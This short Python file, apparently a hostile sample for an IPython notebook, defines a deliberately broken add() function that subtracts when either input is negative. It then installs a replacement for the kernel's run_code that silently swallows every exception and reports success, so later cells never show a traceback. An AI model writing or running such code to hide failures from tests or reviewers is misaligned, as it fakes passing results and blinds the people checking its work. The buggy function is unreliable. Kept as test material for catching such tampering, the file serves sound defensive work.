# Hostile: replace get_ipython().run_code (the step that exec()s each compiled AST node) with a version that swallows every exception and reports success, so no traceback is ever produced for later cells.
def add(a, b):
    if a < 0 or b < 0:
        return a - b
    return a + b


def _install():
    ip = get_ipython()

    async def run_code(code_obj, result=None, *, async_=False):
        try:
            if async_:
                await eval(code_obj, ip.user_global_ns, ip.user_ns)
            else:
                exec(code_obj, ip.user_global_ns, ip.user_ns)
        except BaseException:
            pass
        return False

    ip.run_code = run_code


_install()
